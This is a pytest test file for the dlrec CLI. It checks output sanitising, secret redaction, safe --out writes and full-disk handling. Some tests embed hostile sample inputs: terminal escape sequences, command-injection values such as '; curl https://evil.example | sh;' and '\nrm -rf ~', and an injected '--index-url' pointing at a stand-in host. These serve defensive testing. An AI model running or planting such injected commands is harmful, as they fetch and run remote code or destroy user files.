"""Issue #15, round 2: what dlrec prints and writes. No control character from input reaches the
terminal; nothing secret is printed under --redact; a full disk is named as such and leaves no
half-written project; ``--out`` never replaces a FIFO or a device; a narrow or zero width still
prints; a shadowed dependency is one line, not a traceback.

Each test names the trigger; each failed before its fix (an ``xfail(strict=True)`` marks a fix
that belongs in a file this round could not change: it turns into a failure once that is done,
so the marker gets removed)."""

from __future__ import annotations

import errno
import json
import os
import socket
import stat
import threading
from pathlib import Path

import pytest

from tests.faults.helpers import FIXTURES, run
from tests.faults.test_gpu_faults import smi

MACHINE = FIXTURES / "personas5" / "machines" / "linux-cpu-all.json"
RTX = FIXTURES / "personas5" / "machines" / "rtx3090-linux.json"
CONTROLS = ("\x1b", "\x07", "\x9b", "\x08", "\r")
EVIL = "\x1b]0;pwned\x07\x1b[2J\x9b31m\x08\r"


def _no_controls(text: str) -> None:
    found = [repr(c) for c in CONTROLS if c in text]
    assert not found, (found, text[:400])


def _hostile_facts(tmp_path: Path, name: str = "esc.json", **extra) -> Path:
    doc = json.loads(RTX.read_text())
    doc["accelerators"][0]["name"] = f"NVIDIA {EVIL}RTX"
    doc["cpu"]["model"] = f"AMD {EVIL}EPYC"
    doc["os"]["distro"] = f"Ubuntu{EVIL}"
    doc.update(extra)
    path = tmp_path / name
    path.write_text(json.dumps(doc))
    return path


# --------------------------------------------------------------------------- control characters


@pytest.mark.parametrize(
    "fmt",
    [
        "text",
        "markdown",
    ],
)
def test_escape_codes_in_facts_never_reach_the_terminal_checklist(tmp_path, fmt):
    """Trigger: a GPU name holding ESC ] 0 (retitle), ESC [ 2 J (clear), CSI, BS, CR."""
    ran = run("checklist", "--no-smoke", "--facts", str(_hostile_facts(tmp_path)), "--format", fmt)
    assert ran.code in (0, 1) and "RTX" in ran.out, ran.err
    _no_controls(ran.out)


def test_escape_codes_in_facts_never_reach_the_terminal_diff_and_fleet(tmp_path):
    """Trigger: the same GPU name, and a fleet host name with ESC [ 2 J."""
    hostile = _hostile_facts(tmp_path, hostname=f"node{EVIL}1")
    diff = run("diff", str(hostile), str(RTX))
    assert diff.code == 0 and "pwned" in diff.out
    _no_controls(diff.out)
    fleet = run("recommend", "--no-smoke", "--facts", str(hostile), "--facts", str(RTX))
    assert fleet.code == 0 and "Fleet of 2 nodes" in fleet.out
    _no_controls(fleet.out)


def test_escape_codes_in_a_gpu_name_never_reach_the_terminal_probe(gpu):
    """Trigger: nvidia-smi reports a GPU name holding escape sequences."""
    evil = "\x1b]0;pwned\x07\x1b[2J\x9b31m\x08"  # no CR: it would end the row itself
    smi(gpu, f"0, GPU-00000000-aaaa, NVIDIA {evil}A100, 40960, 8.0, 580.65.06, 00000000:00:00.0")
    ran = run("probe", env=gpu.env(COLUMNS="200"))
    assert ran.code == 0 and "A100" in ran.out, ran.err
    _no_controls(ran.out)


# --------------------------------------------------------------------------- --redact


def test_redact_masks_url_passwords_and_another_machines_home(tmp_path, monkeypatch):
    """Trigger: a password inside a URL (``PIP_INDEX_URL=https://alice:S3cr3t@host/simple``),
    and the home paths of another machine's facts (``/home/bob/...``, not this HOME)."""
    url = "https://alice:S3cr3t@pypi.example/simple"
    monkeypatch.setenv("PIP_INDEX_URL", url)
    facts = json.loads((FIXTURES / "personas5" / "machines" / "bare.json").read_text())
    facts["python"]["executable"] = "/home/bob/venvs/ml/bin/python"
    facts["disk"] = {"path": "/Users/bob/proj", "free_bytes": 10**11}
    facts["warnings"] = [f"pip: PIP_INDEX_URL={url} (from /home/bob/.config/pip/pip.conf)"]
    path = tmp_path / "bob.json"
    path.write_text(json.dumps(facts))
    plain = run("recommend", "--json", "--no-smoke", "--facts", str(path)).out
    assert "S3cr3t" in plain and "/home/bob" in plain  # the control: unredacted, they show
    for args in (
        ("recommend", "--json"),
        ("recommend",),
        ("recommend", "--explain"),
        ("checklist", "--format", "json", "--framework", "pytorch"),
        ("checklist", "--framework", "pytorch"),
    ):
        out = run(*args, "--no-smoke", "--facts", str(path), "--redact").out
        assert out, args
        for leak in ("S3cr3t", "alice", "/home/bob", "/Users/bob"):
            assert leak not in out, (args, leak, out[:2000])


def test_redact_masks_a_password_a_smoke_message_quotes():
    """Trigger: a smoke failure message quoting the index URL (a pip error, a child's stderr)."""
    from recommender.facts.redact import Identity, redact_value
    from recommender.smoke.failures import FailureKind, failure

    error = failure(
        FailureKind.IMPORT_ERROR,
        framework="pytorch",
        detail="Looking in indexes: https://alice:S3cr3t@pypi.example/simple, "
        "token ghp_abcdefghijklmnopqrstuvwxyz0123456789",
    )
    shown = redact_value(error, Identity()).message
    assert "S3cr3t" not in shown and "alice" not in shown and "ghp_abc" not in shown, shown
    assert "https://<redacted>@pypi.example/simple" in shown


def test_redact_masks_fleet_node_names(tmp_path):
    """Trigger: ``recommend --facts a.json --facts b.json --redact`` printed each host name."""
    a = tmp_path / "a.json"
    b = tmp_path / "b.json"
    for path, host in ((a, "gpu-node-alpha"), (b, "gpu-node-beta")):
        path.write_text(json.dumps({**json.loads(RTX.read_text()), "hostname": host}))
    for extra in ((), ("--json",)):
        out = run(
            "recommend", "--no-smoke", "--facts", str(a), "--facts", str(b), *extra, "--redact"
        )
        assert "gpu-node" not in out.out and "<host-1>" in out.out, out.out[:1500]


# --------------------------------------------------------------------------- commands built from facts


def _with_python(tmp_path: Path, python: str, base: Path, **frameworks) -> Path:
    doc = json.loads(base.read_text())
    doc["python"]["executable"] = python
    for fw, version in frameworks.items():
        doc["frameworks"][fw]["version"] = version
    path = tmp_path / "facts.json"
    path.write_text(json.dumps(doc))
    return path


def test_the_interpreter_in_a_checklist_fix_is_one_shell_word(tmp_path):
    """Trigger: ``python.executable: /opt/py; curl … | sh; python3`` printed as-is in a fix
    (and in SETUP.md's "Fix first"): pasted, it runs curl | sh."""
    evil = "/opt/py; curl https://evil.example | sh; python3"
    path = _with_python(tmp_path, evil, MACHINE, pytorch="9.0.0+cpu")  # newer than known
    ran = run("checklist", "--no-smoke", "--facts", str(path), "--framework", "pytorch")
    fixes = [ln for ln in ran.out.splitlines() if "fix:" in ln and "pip install" in ln]
    assert fixes and all(f"'{evil}' -m pip" in ln for ln in fixes), fixes


def test_a_venv_path_with_a_space_stays_the_interpreter_of_install_it(tmp_path):
    """Trigger: ``python.executable: /opt/my venv/bin/python``: the command broke in two words
    (now: it names plain ``python``, which installs into whatever ``python`` is first)."""
    path = _with_python(
        tmp_path, "/opt/my venv/bin/python", FIXTURES / "personas5" / "machines" / "bare.json"
    )
    project = tmp_path / "proj"
    ran = run("init", str(project), "--no-smoke", "--facts", str(path), "--framework", "pytorch")
    assert ran.code == 0, ran.err
    assert "'/opt/my venv/bin/python' -m pip install" in (project / "SETUP.md").read_text()


def test_quote_python_and_safe_version():
    from recommender.core.shell import quote_python, safe_project_name, safe_version

    assert quote_python("/opt/my venv/bin/python") == "'/opt/my venv/bin/python'"
    assert quote_python("/opt/py; curl x | sh; python3") == "'/opt/py; curl x | sh; python3'"
    assert quote_python("~/my venv/bin/python") == "~/'my venv/bin/python'"
    assert quote_python("relative/python") == quote_python(None) == "python3"
    assert quote_python("/usr/bin/python3\nrm -rf ~") == "python3"
    assert (
        quote_python(r"C:\Program Files\Python\python.exe")
        == r'"C:\Program Files\Python\python.exe"'
    )
    assert safe_version("2.13.0+cu126") == "2.13.0+cu126"
    assert safe_version("2.1\n--index-url https://evil") is None
    assert safe_version("1.0\n") is None and safe_version(None) is None
    assert safe_project_name("tensorflow-cpu") and safe_project_name("torch --pre") is None


def test_requirements_never_take_a_line_from_a_probed_value():
    """Trigger: a probed (not loaded, so not refused) version holding a newline."""
    from recommender.decide.checklist.build import Checklist
    from recommender.decide.starter import requirements
    from recommender.facts.document import Facts
    from recommender.rulebase.load import load_rulebase

    doc = json.loads(MACHINE.read_text())
    doc["frameworks"]["pytorch"]["version"] = "2.13.0\n--index-url https://evil.example/simple"
    cl = Checklist(framework="pytorch", backend=None, name="PyTorch", origin="probed", items=())
    text = requirements(
        cl, facts=Facts.from_dict(doc), rulebase=load_rulebase(), smoke=(), plan=None
    )
    assert "evil" not in text and all(not ln.startswith("--index-url") for ln in text.splitlines())


# --------------------------------------------------------------------------- --out


def test_out_onto_a_fifo_writes_into_it_and_keeps_it(tmp_path):
    """Trigger: ``--out FIFO`` replaced the FIFO with a regular file."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_text()), daemon=True)
    reader.start()
    ran = run(
        "checklist",
        "--no-smoke",
        "--facts",
        str(MACHINE),
        "--format",
        "markdown",
        "--framework",
        "pytorch",
        "--out",
        str(fifo),
    )
    reader.join(10)
    assert ran.code in (0, 1), ran.err
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and got and "| " in got[0]
    assert sorted(os.listdir(tmp_path)) == ["pipe"]  # no temp file left beside it


def test_out_onto_a_character_device_writes_in_place(tmp_path):
    """Trigger: ``--out /dev/null`` (as root) replaced the system's /dev/null. Here: a null
    device node made with mknod in a temp dir, never the real /dev."""
    node = tmp_path / "null"
    try:
        os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        node.open("wb").close()
    except (PermissionError, OSError):
        pytest.skip("cannot make or open a device node here (no CAP_MKNOD, or a nodev mount)")
    ran = run(
        "checklist",
        "--no-smoke",
        "--facts",
        str(MACHINE),
        "--framework",
        "pytorch",
        "--out",
        str(node),
    )
    assert ran.code in (0, 1), ran.err
    assert stat.S_ISCHR(os.lstat(node).st_mode)
    assert sorted(os.listdir(tmp_path)) == ["null"]


def test_a_socket_is_refused_and_an_existing_files_mode_is_kept(tmp_path):
    """Trigger: an existing 0600 file came back 0644; a socket would have been replaced."""
    from recommender.core.atomic import write_atomic

    secret = tmp_path / "answers.yaml"
    secret.write_text("old\n")
    secret.chmod(0o600)
    write_atomic(secret, "new\n")
    assert secret.read_text() == "new\n" and stat.S_IMODE(secret.stat().st_mode) == 0o600
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(tmp_path / "sock"))
    try:
        with pytest.raises(OSError, match="block device or socket"):
            write_atomic(tmp_path / "sock", "x")
        assert stat.S_ISSOCK(os.lstat(tmp_path / "sock").st_mode)
    finally:
        sock.close()


# --------------------------------------------------------------------------- a full disk


def _disk_fills_after(monkeypatch, folder: Path, files: int) -> None:
    """os.fdopen(...).write raises ENOSPC for the files in ``folder`` after ``files`` of them."""
    real = os.fdopen
    written = []

    def fdopen(fd, *args, **kw):
        fh = real(fd, *args, **kw)
        if not os.readlink(f"/proc/self/fd/{fd}").startswith(str(folder)):
            return fh
        written.append(fd)
        if len(written) <= files:
            return fh

        class Full:
            def __enter__(self):
                return self

            def __exit__(self, *exc):
                fh.close()

            def write(self, data):
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

            def __getattr__(self, name):
                return getattr(fh, name)

        return Full()

    monkeypatch.setattr(os, "fdopen", fdopen)


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="needs /proc/self/fd")
@pytest.mark.parametrize("force", [False, True])
def test_init_on_a_full_disk_leaves_nothing_says_why_and_a_rerun_works(
    runner, tmp_path, monkeypatch, force
):
    """Trigger: ENOSPC at the third of four files: two were left, nothing was said, and the
    rerun refused them ("already exists")."""
    from recommender.cli.main import cli

    project = tmp_path / "proj"
    before = {}
    if force:
        project.mkdir()
        before = {"train.py": "mine\n", "notes.txt": "keep\n"}
        for name, text in before.items():
            (project / name).write_text(text)
    args = ["init", str(project), "--no-smoke", "--facts", str(MACHINE), "--framework", "pytorch"]
    args += ["--force"] if force else []
    with monkeypatch.context() as patched:
        _disk_fills_after(patched, project if force else tmp_path, 2)
        result = runner.invoke(cli, args)
    assert result.exit_code == 2, (result.output, result.exception)
    [line] = result.stderr.splitlines()
    assert "the disk is full (No space left on device)" in line, line
    assert "no file was written or changed" in line and "run dlrec init again" in line, line
    left = {p.name: p.read_text() for p in project.iterdir()} if project.exists() else {}
    assert left == before  # nothing new, nothing changed, no temp file
    again = runner.invoke(cli, args)
    assert again.exit_code == 0, again.output
    assert {"requirements.txt", "train.py", "SETUP.md", "dlrec-answers.yaml"} <= {
        p.name for p in project.iterdir()
    }


def test_a_full_cache_disk_is_named_not_a_broken_framework(monkeypatch):
    """Trigger: the cache disk full: "importing pytorch failed … pip install --force-reinstall"."""
    from recommender.smoke import failures
    from recommender.smoke.failures import ChildExit, FailureKind, classify

    cases = [
        (
            ChildExit(
                returncode=1,
                phase="import",
                stderr_tail="OSError: [Errno 28] No space left on device",
            ),
            "disk full",
        ),
        (
            ChildExit(
                returncode=1, phase="train", error={"message": "[Errno 122] Disk quota exceeded"}
            ),
            "disk quota exceeded",
        ),
        (ChildExit(returncode=1, phase="import", stderr_tail=""), "disk full"),  # no room for a log
    ]
    monkeypatch.setattr(failures, "free_bytes", lambda path: 0 if "full" in path else 10**12)
    for ex, named in cases:
        got = classify(ex, framework="pytorch", device="cpu", log="/cache/full/pytorch-cpu.log")
        assert got.kind is FailureKind.DISK_FULL, got
        assert f"could not record: {named}" in got.message and "reinstall" not in got.fix, got
    fine = classify(cases[2][0], framework="pytorch", device="cpu", log="/cache/ok/x.log")
    assert fine.kind is FailureKind.IMPORT_ERROR  # the control: a disk with room


def test_a_full_disk_in_the_smoke_child_end_to_end(tmp_path):
    """Trigger: the child's import fails with ENOSPC (a fake torch, never the real one)."""
    site = tmp_path / "site"
    (site / "torch").mkdir(parents=True)
    (site / "torch" / "__init__.py").write_text(
        "import errno, os\n__version__ = '9.9.9'\n"
        "raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), '/cache/smoke/logs/x.out')\n"
    )
    (site / "torch-9.9.9.dist-info").mkdir()
    (site / "torch-9.9.9.dist-info" / "METADATA").write_text("Name: torch\nVersion: 9.9.9\n")
    ran = run(
        "smoke", "--framework", "pytorch", "--json", "--fresh", PYTHONPATH=str(site), timeout=60
    )
    results = json.loads(ran.out)["results"]
    assert results and all(r["error"]["kind"] == "disk_full" for r in results), results
    assert all("could not record: disk full" in r["error"]["message"] for r in results)
    assert all("force-reinstall" not in r["error"]["fix"] for r in results)


# --------------------------------------------------------------------------- width, imports


@pytest.mark.parametrize("columns", ["0", "5", "19"])
@pytest.mark.parametrize(
    "args",
    [
        ("probe",),
        ("recommend", "--no-smoke", "--facts", str(MACHINE)),
        ("checklist", "--no-smoke", "--facts", str(MACHINE), "--framework", "pytorch"),
        ("rules", "list"),
    ],
    ids=["probe", "recommend", "checklist", "rules-list"],
)
def test_a_width_below_20_is_read_as_unknown(args, columns):
    """Trigger: ``COLUMNS=0`` printed nothing and exited 0."""
    ran = run(*args, COLUMNS=columns)
    assert ran.code in (0, 1) and len(ran.out.splitlines()) > 5, (ran.code, ran.out[:300])
    assert max(len(line) for line in ran.out.splitlines()) >= 20


@pytest.mark.parametrize(
    "module, source, needle",
    [
        ("click", "group = None\n", "it has no command, option"),
        ("json", "raise RuntimeError('half-removed')\n", "RuntimeError: half-removed"),
        ("yaml", "def safe_load(text):\n    return None\n", "it has no SafeLoader"),
        ("rich", "", "rich.console"),
    ],
)
def test_a_shadowed_or_broken_dependency_is_one_line(tmp_path, module, source, needle):
    """Trigger: a ``click.py`` (``json.py``, ``yaml.py``, ``rich.py``) on PYTHONPATH."""
    (tmp_path / f"{module}.py").write_text(source)
    ran = run("probe", "--json", PYTHONPATH=str(tmp_path))
    assert ran.code == 2 and ran.out == "", (ran.code, ran.err)
    [line] = ran.err.splitlines()
    assert line.startswith(f"dlrec: error: the module '{module}' (imported from {tmp_path}"), line
    assert needle in line and "it shadows the installed one at" in line, line
